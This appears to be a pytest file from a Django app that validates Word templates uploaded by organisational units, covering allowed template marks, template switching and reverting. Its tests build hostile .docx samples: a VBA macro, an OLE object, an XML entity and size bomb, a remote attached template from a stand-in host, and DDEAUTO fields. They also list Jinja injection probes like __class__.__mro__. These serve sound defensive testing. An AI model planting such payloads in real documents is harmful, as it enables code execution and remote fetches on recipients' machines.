"""The Word template of a unit: what it may hold, who replaces it, and the way back."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from akun.pilihan import Peran
from inti.galat import DataDitolak
from laporan.keluaran.word import TemplatDitolak, buat_docx, templat_baku
from laporan.models import TemplatWord
from laporan.services import pakai_templat, pasang_templat
from laporan.templat.contoh import contoh_isi
from laporan.templat.unggahan import MAKS_UKURAN, uji_templat
from laporan.templat_unit import TemplatRusak, buat_berkas, templat_berlaku
from tests.laporan.laporan_contoh import konten_json, unit_berisi
from tests.pabrik import PADA, PabrikTemplatWord, PabrikUnitKerja, anggota

if TYPE_CHECKING:
    from collections.abc import Callable

    from django.test import Client

    from akun.models import Pengguna, UnitKerja
    from inti.tanggal import Kalender

pytestmark = pytest.mark.django_db
MEREK = "KOP KHUSUS UNIT"


def templat(*tambahan: str) -> bytes:
    """The template of the house with paragraphs after it."""
    dokumen = docx.Document(io.BytesIO(templat_baku()))
    for teks in tambahan:
        dokumen.add_paragraph(teks)
    aliran = io.BytesIO()
    dokumen.save(aliran)
    return aliran.getvalue()


def sisipkan(nama: str, isi: bytes, ganti: bool = False) -> bytes:
    """The template of the house with one more part, or one part replaced."""
    aliran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(templat_baku())) as lama, zipfile.ZipFile(aliran, "w") as baru:
        for n in lama.namelist():
            if not (ganti and n == nama):
                baru.writestr(n, lama.read(n))
        baru.writestr(nama, isi)
    return aliran.getvalue()


def bagian(nama: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(templat_baku())) as arsip:
        return arsip.read(nama)


# --- What a template may say ----------------------------------------------------------------------


def test_the_template_of_the_house_fills_with_every_part() -> None:
    uji_templat(templat_baku())
    teks = "\n".join(p.text for p in docx.Document(io.BytesIO(buat_docx(contoh_isi()))).paragraphs)
    assert "Contoh" in teks
    assert "{" not in teks


@pytest.mark.parametrize(
    "tanda",
    [
        "{{ tanda_tangan.nama|upper }}",
        "{{ judul[1:] }}",
        "{% if judul_capaian.startswith('A') %}a{% else %}b{% endif %}",
        "{% for s in sasaran %}{% for i in s.iku %}{{ loop.index }}{% endfor %}{% endfor %}",
        "{{ 'ada' if judul else 'tidak' }}",
    ],
)
def test_marks_of_the_content_are_accepted(tanda: str) -> None:
    uji_templat(templat(tanda))


@pytest.mark.parametrize(
    ("tanda", "pesan"),
    [
        ("{{ tidak_ada }}", r"tanda \{\{ tidak_ada \}\} tidak dikenal"),
        ("{{ nota_dinas.nomr }}", "Mungkin maksudnya nomor"),
        ("{% if false %}{{ nota_dinas.nomr }}{% endif %}", "tidak dikenal"),
        ("{% for s in sasaran %}{{ s.jdul }}{% endfor %}", "Mungkin maksudnya judul"),
        ("{% for s in judul_capaian %}{{ s }}{% endfor %}", "bukan daftar"),
        ("{% for s in sasaran %}", "tidak lengkap"),
        ("{{ judul|pprint }}", "saringan pprint tidak dikenal"),
        ("{{ judul.__class__.__mro__ }}", "tidak dikenal"),
        ("{{ judul[0].__class__ }}", "tidak dikenal"),
        ("{{ judul_capaian.format(1) }}", "yang dapat dipanggil"),
        ("{{ range(9) }}", "yang dapat dipanggil"),
        ("{{ self }}", "tidak dikenal"),
        ("{{ 'a' * 999999999 }}", "hanya for, if"),
        ("{{ judul_capaian ~ judul_capaian }}", "hanya for, if"),
        ("{% set x = 1 %}", "hanya for, if"),
        ("{% include 'x' %}", "hanya for, if"),
        ("{% macro m() %}{% endmacro %}", "hanya for, if"),
        ("{% for a in sasaran %}{% for b in sasaran %}x{% endfor %}{% endfor %}", "bagian dari a"),
    ],
)
def test_whatever_else_is_refused_with_a_clear_sentence(tanda: str, pesan: str) -> None:
    with pytest.raises(DataDitolak, match=pesan) as ditolak:
        uji_templat(templat(tanda))
    assert ditolak.value.temuan[0].bidang == "berkas"


def test_a_mark_in_the_footer_and_in_the_properties_is_read_too() -> None:
    dokumen = docx.Document(io.BytesIO(templat_baku()))
    dokumen.sections[0].footer.paragraphs[0].text = "{{ kaki_asing }}"
    aliran = io.BytesIO()
    dokumen.save(aliran)
    with pytest.raises(DataDitolak, match="kaki_asing"):
        uji_templat(aliran.getvalue())
    dokumen = docx.Document(io.BytesIO(templat_baku()))
    dokumen.core_properties.subject = "{{ sifat_asing }}"
    aliran = io.BytesIO()
    dokumen.save(aliran)
    with pytest.raises(DataDitolak, match="sifat_asing"):
        uji_templat(aliran.getvalue())


# --- Hostile files --------------------------------------------------------------------------------

LUAR = (
    b'<Relationship Id="rId99" TargetMode="External" Target="http://jahat.test/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/>'
)


def _berhubungan(jenis: bytes) -> bytes:
    nama = "word/_rels/document.xml.rels"
    isi = bagian(nama).replace(b"</Relationships>", LUAR % jenis + b"</Relationships>")
    return sisipkan(nama, isi, ganti=True)


def _bermedan(perintah: bytes) -> bytes:
    medan = b'<w:p><w:fldSimple w:instr=" %s "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    isi = bagian("word/document.xml").replace(b"<w:body>", b"<w:body>" + medan % perintah, 1)
    return sisipkan("word/document.xml", isi, ganti=True)


@pytest.mark.parametrize(
    ("isi", "pesan"),
    [
        (lambda: b"%PDF-1.7", "bukan dokumen Word"),
        (lambda: b"PK\x03\x04rusak", "rusak"),
        (lambda: b"PK\x03\x04" + b"0" * MAKS_UKURAN, "paling besar 5 MB"),
        (lambda: sisipkan("word/vbaProject.bin", b"x"), "makro"),
        (lambda: sisipkan("word/embeddings/oleObject1.bin", b"x"), "objek tertanam"),
        (lambda: sisipkan("word/kosong.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"), "rusak"),
        (lambda: sisipkan("word/bom.xml", b"<a>" + b" " * 400_000_000 + b"</a>"), "besar"),
        (lambda: _berhubungan(b"attachedTemplate"), "dari luar"),
        (lambda: _berhubungan(b"image"), "dari luar"),
        (lambda: _bermedan(b"DDEAUTO c:\\\\x"), "medan DDEAUTO"),
        (lambda: _bermedan(b"INCLUDEPICTURE http"), "medan INCLUDEPICTURE"),
    ],
)
def test_a_hostile_file_is_refused(isi: Callable[[], bytes], pesan: str) -> None:
    with pytest.raises(DataDitolak, match=pesan):
        uji_templat(isi())


def test_a_plain_link_is_no_danger() -> None:
    uji_templat(_berhubungan(b"hyperlink"))


# --- Use ------------------------------------------------------------------------------------------


def unggah(klien: Client, unit: UnitKerja, isi: bytes, nama: str = "unit.docx") -> str:
    jawaban = klien.post(
        reverse("laporan:templat", args=[unit.pk]), {"berkas": SimpleUploadedFile(nama, isi)}
    )
    return str(jawaban.status_code) + jawaban.content.decode()


def test_an_accepted_template_makes_the_report_until_one_goes_back(
    unit: UnitKerja, admin: Pengguna, kalender: Kalender, masuk: Callable[[Pengguna], Client]
) -> None:
    isi = konten_json(unit_berisi(unit).unit, kalender)
    klien = masuk(admin)
    assert unggah(klien, unit, templat(MEREK)).startswith("302")
    assert unggah(klien, unit, templat(MEREK, MEREK), "kedua.docx").startswith("302")
    halaman = klien.get(reverse("laporan:templat", args=[unit.pk])).content.decode()
    assert "memakai kedua.docx" in halaman
    laporan = docx.Document(io.BytesIO(buat_berkas(unit, "docx", isi)))
    assert [p.text for p in laporan.paragraphs].count(MEREK) == 2
    pertama = TemplatWord.objects.get(nama="unit.docx")
    klien.post(reverse("laporan:templat_pakai", args=[pertama.pk]))
    assert templat_berlaku(unit) == pertama
    klien.post(reverse("laporan:templat_bawaan", args=[unit.pk]))
    assert templat_berlaku(unit) is None
    laporan = docx.Document(io.BytesIO(buat_berkas(unit, "docx", isi)))
    assert MEREK not in [p.text for p in laporan.paragraphs]
    alasan = list(pertama.history.values_list("history_change_reason", flat=True))
    assert "Kembali ke templat bawaan" in alasan


def test_a_refused_template_leaves_the_old_one_in_use(
    unit: UnitKerja, admin: Pengguna, masuk: Callable[[Pengguna], Client]
) -> None:
    lama = PabrikTemplatWord.create(unit=unit, dipakai=True)
    jawaban = unggah(masuk(admin), unit, templat("{{ salah }}"))
    assert jawaban.startswith("422")
    assert "tidak dikenal" in jawaban
    assert templat_berlaku(unit) == lama


def test_a_unit_without_its_own_uses_the_nearest_above(unit: UnitKerja) -> None:
    bawahan = PabrikUnitKerja.create(induk=unit)
    atas = PabrikTemplatWord.create(unit=unit, dipakai=True)
    PabrikTemplatWord.create(dipakai=True)
    assert templat_berlaku(bawahan) == atas
    sendiri = PabrikTemplatWord.create(unit=bawahan, dipakai=True)
    assert templat_berlaku(bawahan) == sendiri


def test_a_template_changed_on_disk_is_not_used(unit: UnitKerja) -> None:
    rusak = PabrikTemplatWord.create(unit=unit, dipakai=True, sha256="0" * 64)
    with pytest.raises(TemplatRusak, match=r"templat\.docx"):
        buat_berkas(unit, "docx", contoh_isi())
    with pytest.raises(TemplatRusak):
        pakai_templat(templat=rusak, oleh=anggota(unit, Peran.ADMIN), pada=PADA)


def test_the_file_goes_when_the_row_cannot_be_kept(
    unit: UnitKerja, admin: Pengguna, monkeypatch: pytest.MonkeyPatch
) -> None:
    def gagal(*args: object, **kwargs: object) -> None:
        raise RuntimeError("listrik padam")

    dibuang: list[str] = []
    monkeypatch.setattr("laporan.services.templat.simpan", gagal)
    monkeypatch.setattr(
        "django.db.models.fields.files.FieldFile.delete",
        lambda self, save: dibuang.append(str(self.name)),
    )
    with pytest.raises(RuntimeError):
        pasang_templat(unit=unit, nama="a.docx", isi=templat_baku(), oleh=admin, pada=PADA)
    assert len(dibuang) == 1


def test_the_current_template_is_downloaded(
    unit: UnitKerja, admin: Pengguna, masuk: Callable[[Pengguna], Client]
) -> None:
    klien = masuk(admin)
    alamat = reverse("laporan:templat_unduh", args=[unit.pk])
    assert klien.get(alamat).content == templat_baku()
    lama = PabrikTemplatWord.create(unit=unit, dipakai=True, nama="punya unit.docx")
    assert "punya unit.docx" in klien.get(alamat)["Content-Disposition"]
    assert klien.get(reverse("laporan:templat_lama", args=[lama.pk])).content == templat_baku()


def test_a_template_that_fails_at_the_report_says_so() -> None:
    with pytest.raises(TemplatDitolak, match="Perbaiki di Word"):
        buat_docx(contoh_isi(), templat("{{ salah }}"))
